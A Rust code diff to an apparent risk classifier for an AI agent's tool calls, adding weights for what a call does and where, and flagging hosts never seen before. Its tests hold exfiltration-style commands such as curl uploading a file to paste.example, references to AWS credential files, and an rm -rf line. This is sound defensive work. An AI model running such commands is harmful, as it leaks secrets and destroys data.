@@ -6,6 +6,8 @@
 use ccc_protocol::bodies::{Access, Care, Class, Facts, Gravity, Place, Verdict, Word};
 use serde_json::{Map, Value};
 
+use crate::facts::is_loopback;
+
 use Care::{Always, No, WhereLong};
 use Gravity::{Grave, Odd, Plain};
 
@@ -20,6 +22,17 @@ struct Row {
     short: &'static str,
     /// True where the host may be typed in place of the class's word.
     names_host: bool,
+    /// What it does and where, as risk counts it: see [`Weight`].
+    weight: Weight,
+}
+
+/// How much what a call does and where it does it count for its risk: the first two dimensions of `core/src/risk`.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct Weight {
+    /// What it does, 0 to 3: looks, changes what can be undone, is out of the ordinary, cannot be taken back.
+    pub deed: u8,
+    /// Where, 0 to 3: in the project, beside it, on the machine or another one, where secrets or the bridge's own files lie.
+    pub place: u8,
 }
 
 const fn row(
@@ -29,7 +42,12 @@ const fn row(
     short: &'static str,
     headline: &'static str,
 ) -> Row {
-    Row { classes, when: always, gravity, care, headline, short, names_host: false }
+    let weight = match gravity {
+        Plain => Weight { deed: 1, place: 0 },
+        Odd => Weight { deed: 2, place: 0 },
+        Grave => Weight { deed: 3, place: 1 },
+    };
+    Row { classes, when: always, gravity, care, headline, short, names_host: false, weight }
 }
 
 const fn grave(classes: &'static [Class], short: &'static str, headline: &'static str) -> Row {
@@ -39,6 +57,10 @@ const fn grave(classes: &'static [Class], short: &'static str, headline: &'stati
 impl Row {
     const fn naming_host(self) -> Self {
         Self { names_host: true, ..self }
+    }
+
+    const fn weighing(self, deed: u8, place: u8) -> Self {
+        Self { weight: Weight { deed, place }, ..self }
     }
 
     const fn when(self, when: fn(&Facts) -> bool) -> Self {
@@ -56,55 +78,88 @@ fn always(_: &Facts) -> bool {
 
 /// The gravest first: the first row that fits is the headline. Every class has a row of its own.
 const TABLE: &[Row] = &[
-    grave(&[Class::Credentials, Class::Upload], "secrets out", "SENDS SECRETS TO ANOTHER MACHINE").naming_host(),
-    grave(&[Class::Bridge], "the bridge", "TOUCHES THE BRIDGE THAT WATCHES THE AGENT"),
-    grave(&[Class::HookSettings], "hooks", "CHANGES THE HOOKS THAT WATCH THE AGENT"),
-    grave(&[Class::Credentials, Class::Network], "secrets", "TOUCHES SECRETS, AND CONTACTS ANOTHER MACHINE"),
-    grave(&[Class::Credentials], "secrets", "READS OR CHANGES SECRETS"),
+    grave(&[Class::Credentials, Class::Upload], "secrets out", "SENDS SECRETS TO ANOTHER MACHINE")
+        .naming_host()
+        .weighing(3, 3),
+    grave(&[Class::Bridge], "the bridge", "TOUCHES THE BRIDGE THAT WATCHES THE AGENT").weighing(3, 3),
+    grave(&[Class::HookSettings], "hooks", "CHANGES THE HOOKS THAT WATCH THE AGENT").weighing(3, 3),
+    grave(&[Class::Credentials, Class::Network], "secrets", "TOUCHES SECRETS, AND CONTACTS ANOTHER MACHINE")
+        .weighing(3, 2),
+    grave(&[Class::Credentials], "secrets", "READS OR CHANGES SECRETS").weighing(2, 3),
     grave(&[Class::Unknown, Class::Network], "runs fetched", "MAY RUN WHAT ANOTHER MACHINE SENDS")
+        .weighing(3, 2)
         .when(runs_what_is_sent),
     grave(&[Class::ForcePush], "force-push", "OVERWRITES HISTORY IN ANOTHER REPOSITORY"),
     grave(&[Class::Unknown, Class::Upload], "sends, unknown", "SENDS DATA OUT, AND NOT ALL OF IT CAN BE READ")
         .naming_host(),
-    grave(&[Class::Upload], "sends data", "SENDS DATA TO ANOTHER MACHINE").naming_host(),
+    grave(&[Class::Upload], "sends data", "SENDS DATA TO ANOTHER MACHINE").naming_host().weighing(2, 1),
     grave(&[Class::Privilege], "privilege", "TAKES ANOTHER USER'S RIGHTS"),
     grave(&[Class::Persistence], "persists", "CHANGES WHAT WILL RUN LATER BY ITSELF"),
-    grave(&[Class::DeletesOutside], "deletes outside", "DELETES OUTSIDE OF THE PROJECT"),
-    grave(&[Class::Discards], "discards work", "THROWS WORK AWAY"),
+    grave(&[Class::DeletesOutside], "deletes outside", "DELETES OUTSIDE OF THE PROJECT").weighing(3, 2),
+    grave(&[Class::Discards], "discards work", "THROWS WORK AWAY").weighing(3, 0),
     grave(&[Class::System], "system delete", "DELETES ON THE MACHINE OR IN WHAT RUNS ON IT").when(deletes_by_word),
-    grave(&[Class::WritesOutside], "system files", "CHANGES FILES OF THE SYSTEM").when(writes_to_system),
+    grave(&[Class::WritesOutside], "system files", "CHANGES FILES OF THE SYSTEM").when(writes_to_system).weighing(3, 2),
     row(&[Class::Person], Odd, WhereLong, "answers you", "answers in your place what the agent asks of you"),
     row(&[Class::Unknown], Odd, WhereLong, "unknown", "does something that its text alone does not tell"),
-    row(&[Class::System], Odd, No, "system", "changes the machine or what runs on it"),
+    row(&[Class::System], Odd, No, "system", "changes the machine or what runs on it").weighing(2, 1),
     row(&[Class::Interactive], Odd, No, "interactive", "starts a program that takes further commands, unseen"),
-    row(&[Class::WritesOutside], Odd, No, "outside", "changes files outside of the project"),
-    row(&[Class::Installs], Odd, No, "installs", "adds software"),
-    row(&[Class::Server], Plain, No, "mcp", "asks a server, which does as it pleases with what it is given"),
-    row(&[Class::Network], Plain, No, "network", "fetches from another machine").naming_host(),
+    row(&[Class::WritesOutside], Odd, No, "outside", "changes files outside of the project").weighing(1, 2),
+    row(&[Class::Installs], Odd, No, "installs", "adds software").weighing(2, 1),
+    row(&[Class::Server], Plain, No, "mcp", "asks a server, which does as it pleases with what it is given")
+        .weighing(1, 1),
+    row(&[Class::Network], Plain, No, "network", "fetches from another machine").naming_host().weighing(1, 1),
     row(&[Class::Deletes], Plain, No, "deletes", "deletes files of the project"),
     row(&[Class::Runs], Plain, No, "runs", "runs a program of the project"),
     row(&[Class::Builds], Plain, No, "builds", "builds or tests, which runs the project's code"),
     row(&[Class::Writes], Plain, No, "writes", "changes files of the project"),
     row(&[Class::VcsChange], Plain, No, "commits", "records or switches in the local repository"),
-    row(&[Class::Loopback], Plain, No, "local", "talks to a server on this machine"),
-    row(&[Class::VcsQuery], Plain, No, "asks git", "asks version control"),
-    row(&[Class::Reads], Plain, No, "reads", "reads"),
-    row(&[Class::Bookkeeping], Plain, No, "notes", "keeps the agent's own books"),
+    row(&[Class::Loopback], Plain, No, "local", "talks to a server on this machine").weighing(0, 0),
+    row(&[Class::VcsQuery], Plain, No, "asks git", "asks version control").weighing(0, 0),
+    row(&[Class::Reads], Plain, No, "reads", "reads").weighing(0, 0),
+    row(&[Class::Bookkeeping], Plain, No, "notes", "keeps the agent's own books").weighing(0, 0),
 ];
 
-/// What a `use-tool` request with these parameters and facts comes to.
+/// What a `use-tool` request with these parameters and facts comes to; `known` are those of its hosts that were seen before it, where
+/// anybody kept that.
 #[must_use]
-pub fn of_call(params: &Map<String, Value>, facts: &Facts) -> Verdict {
+pub fn of_call(params: &Map<String, Value>, facts: &Facts, known: Option<&[String]>) -> Verdict {
     let found = TABLE.iter().find(|row| row.fits(facts));
     let Some(found) = found else { return nothing_read() };
     Verdict {
         gravity: found.gravity,
         headline: found.headline.to_owned(),
         short: found.short.to_owned(),
-        objects: objects(found, facts),
+        objects: objects(found, facts, known),
         care: care(found, params),
         word: word(found, facts),
     }
+}
+
+/// How much what the call does and where count, and how grave the table calls it. Each is the most that any row that fits says.
+#[must_use]
+pub fn weigh(facts: &Facts) -> (Weight, Gravity) {
+    let mut fits = TABLE.iter().filter(|row| row.fits(facts));
+    let Some(first) = fits.next() else { return (Weight { deed: 2, place: 1 }, Odd) };
+    let beside = u8::from(facts.paths.iter().any(|fact| fact.place == Place::Outside));
+    let most = fits.fold(first.weight, |most, row| Weight {
+        deed: most.deed.max(row.weight.deed),
+        place: most.place.max(row.weight.place),
+    });
+    // The gravest row stands first.
+    (Weight { place: most.place.max(beside), ..most }, first.gravity)
+}
+
+/// The gravest thing about a call, in the table's words.
+#[must_use]
+pub fn headline(facts: &Facts) -> &'static str {
+    TABLE.iter().find(|row| row.fits(facts)).map_or(NOTHING_READ, |row| row.headline)
+}
+
+/// How grave a call is that does this alone.
+#[must_use]
+pub fn gravity_of(class: Class) -> Gravity {
+    let alone = |row: &&Row| row.classes == [class];
+    TABLE.iter().filter(alone).map(|row| row.gravity).max().unwrap_or(Odd)
 }
 
 /// True where an approval of this call needs care: what [`of_call`] says of it, without its words.
@@ -117,13 +172,15 @@ pub fn needs_care(params: &Map<String, Value>, facts: &Facts) -> bool {
 fn nothing_read() -> Verdict {
     Verdict {
         gravity: Odd,
-        headline: "nothing could be read from it".to_owned(),
+        headline: NOTHING_READ.to_owned(),
         short: "unread".to_owned(),
         objects: vec![],
         care: Always,
         word: Class::Unknown.into(),
     }
 }
+
+const NOTHING_READ: &str = "nothing could be read from it";
 
 fn care(row: &Row, params: &Map<String, Value>) -> Care {
     match row.care {
@@ -158,7 +215,7 @@ fn takes(value: &Value, left: &mut usize) -> bool {
 }
 
 /// The reasons of the classes in the headline, then those of the other graver ones, the gravest first.
-fn objects(found: &Row, facts: &Facts) -> Vec<String> {
+fn objects(found: &Row, facts: &Facts, known: Option<&[String]>) -> Vec<String> {
     let singles = TABLE.iter().filter(|row| row.gravity >= Odd && row.fits(facts)).flat_map(|row| row.classes);
     let mut classes: Vec<Class> = vec![];
     for class in found.classes.iter().chain(singles) {
@@ -166,11 +223,17 @@ fn objects(found: &Row, facts: &Facts) -> Vec<String> {
             classes.push(*class);
         }
     }
-    let reasons = classes.iter().filter_map(|class| facts.classes.get(class));
+    let own = found.classes.len();
+    let reasons =
+        |classes: &[Class]| -> Vec<&String> { classes.iter().filter_map(|class| facts.classes.get(class)).collect() };
+    let (first, rest) = classes.split_at_checked(own).unwrap_or((&classes, &[]));
     let mut objects: Vec<String> = vec![];
-    for reason in reasons {
-        if !objects.iter().any(|known| known == reason) {
-            objects.push(cut(reason));
+    let new = further_new_hosts(&reasons(&classes), facts, known);
+    let first = reasons(first).into_iter().map(|reason| told(reason, facts, known));
+    let rest = reasons(rest).into_iter().map(|reason| told(reason, facts, known));
+    for object in first.chain(new).chain(rest) {
+        if !objects.contains(&object) {
+            objects.push(object);
         }
     }
     if objects.len() > Verdict::OBJECTS_MAX {
@@ -181,13 +244,42 @@ fn objects(found: &Row, facts: &Facts) -> Vec<String> {
     objects
 }
 
+/// A reason, and whether the host in it was seen before.
+fn told(reason: &str, facts: &Facts, known: Option<&[String]>) -> String {
+    let of_host = |class| facts.classes.get(&class).is_some_and(|found| found == reason);
+    let is_told = of_host(Class::Network) || of_host(Class::Upload);
+    let host = facts.hosts.iter().find(|host| is_told && reason.ends_with(&format!("`{host}`")));
+    let seen = match (known, host) {
+        (Some(known), Some(host)) if known.contains(host) => " (seen before)",
+        (Some(_), Some(_)) => " (never seen before)",
+        _ => "",
+    };
+    cut(reason, Verdict::OBJECT_CHARS_MAX - seen.len()) + seen
+}
+
+/// Hosts that no reason names and that were never seen before: what was seen before hides none.
+fn further_new_hosts(reasons: &[&String], facts: &Facts, known: Option<&[String]>) -> Option<String> {
+    let known = known?;
+    let is_named = |host: &String| reasons.iter().any(|reason| reason.ends_with(&format!("`{host}`")));
+    let new = facts.hosts.iter().filter(|host| !known.contains(host) && !is_loopback(host) && !is_named(host));
+    let new: Vec<&String> = new.collect();
+    let first = cut(new.first()?, HOST_CHARS_MAX);
+    Some(match new.len() {
+        1 => format!("also contacts `{first}` (never seen before)"),
+        many => format!("also contacts {many} hosts that were never seen before, among them `{first}`"),
+    })
+}
+
+/// Of a host so much is told among others.
+const HOST_CHARS_MAX: usize = 60;
+
 /// A reason, in the middle of which something is left out where it is long: what a path or host ends with tells most.
-fn cut(reason: &str) -> String {
+fn cut(reason: &str, chars_max: usize) -> String {
     let count = reason.chars().count();
-    if count <= Verdict::OBJECT_CHARS_MAX {
+    if count <= chars_max {
         return reason.to_owned();
     }
-    let half = Verdict::OBJECT_CHARS_MAX / 2;
+    let half = chars_max / 2;
     let head: String = reason.chars().take(half).collect();
     let tail: String = reason.chars().skip(count - half + 1).collect();
     format!("{head}…{tail}")
@@ -258,7 +350,7 @@ mod tests {
 
     fn read(command: &str) -> Verdict {
         let params = params(&json!({ "command": command }));
-        of_call(&params, &of_request(&params, &Knowledge::default()))
+        of_call(&params, &of_request(&params, &Knowledge::default()), None)
     }
 
     #[test]
@@ -272,6 +364,30 @@ mod tests {
         assert_eq!(verdict.word.as_str(), "paste.example");
         assert!(verdict.objects.iter().any(|text| text.contains("/.aws/credentials")), "{:?}", verdict.objects);
         assert!(verdict.objects.iter().any(|text| text.contains("paste.example")), "{:?}", verdict.objects);
+    }
+
+    #[test]
+    fn of_a_host_it_is_said_whether_it_was_seen_before() {
+        let objects = |command: &str, known: Option<&[String]>| {
+            let params = params(&json!({ "command": command }));
+            of_call(&params, &of_request(&params, &Knowledge::default()), known).objects
+        };
+        let sends = "curl --data-binary @a.txt https://paste.example/";
+        let known = ["paste.example".to_owned()];
+        assert_eq!(objects(sends, Some(&[]))[0], "sends data to `paste.example` (never seen before)");
+        assert_eq!(objects(sends, Some(&known))[0], "sends data to `paste.example` (seen before)");
+        assert_eq!(objects(sends, None)[0], "sends data to `paste.example`", "of tickets that nobody kept it for");
+        assert_eq!(objects("curl https://docs.rs/x", Some(&[])), ["contacts `docs.rs` (never seen before)"]);
+        // A host that is no reason's own is not hidden behind one that was seen.
+        let two = format!("{sends}; curl --data-binary @a.txt https://other.example/; curl http://localhost:3000/");
+        let also = "also contacts `other.example` (never seen before)";
+        assert_eq!(objects(&two, Some(&known))[..2], ["sends data to `paste.example` (seen before)", also]);
+        let many = format!("{two}; curl https://third.example/");
+        let also = "also contacts 2 hosts that were never seen before, among them `other.example`";
+        assert_eq!(objects(&many, Some(&known))[1], also);
+        // What only looks like a host in another reason says nothing.
+        let removes = objects("rm -rf '/x/`docs.rs`'; curl https://docs.rs/", Some(&[]));
+        assert!(!removes.iter().any(|text| text.starts_with("removes") && text.ends_with("before)")), "{removes:?}");
     }
 
     #[test]
@@ -322,7 +438,7 @@ mod tests {
 
     #[test]
     fn a_call_of_which_nothing_was_read_needs_care() {
-        let verdict = of_call(&Map::new(), &Facts::default());
+        let verdict = of_call(&Map::new(), &Facts::default(), None);
         assert_eq!((verdict.gravity, verdict.care), (Odd, Always));
         assert!(needs_care(&Map::new(), &Facts::default()));
     }
@@ -332,7 +448,7 @@ mod tests {
         for class in Class::ALL {
             assert_eq!(Word::from(class).as_str(), class.as_str());
             let facts = Facts { classes: [(class, "why".to_owned())].into(), ..Facts::default() };
-            let verdict = of_call(&Map::new(), &facts);
+            let verdict = of_call(&Map::new(), &facts, None);
             assert_ne!(verdict.short, "unread", "{class:?}");
             assert_eq!(needs_care(&Map::new(), &facts), verdict.care == Always);
         }
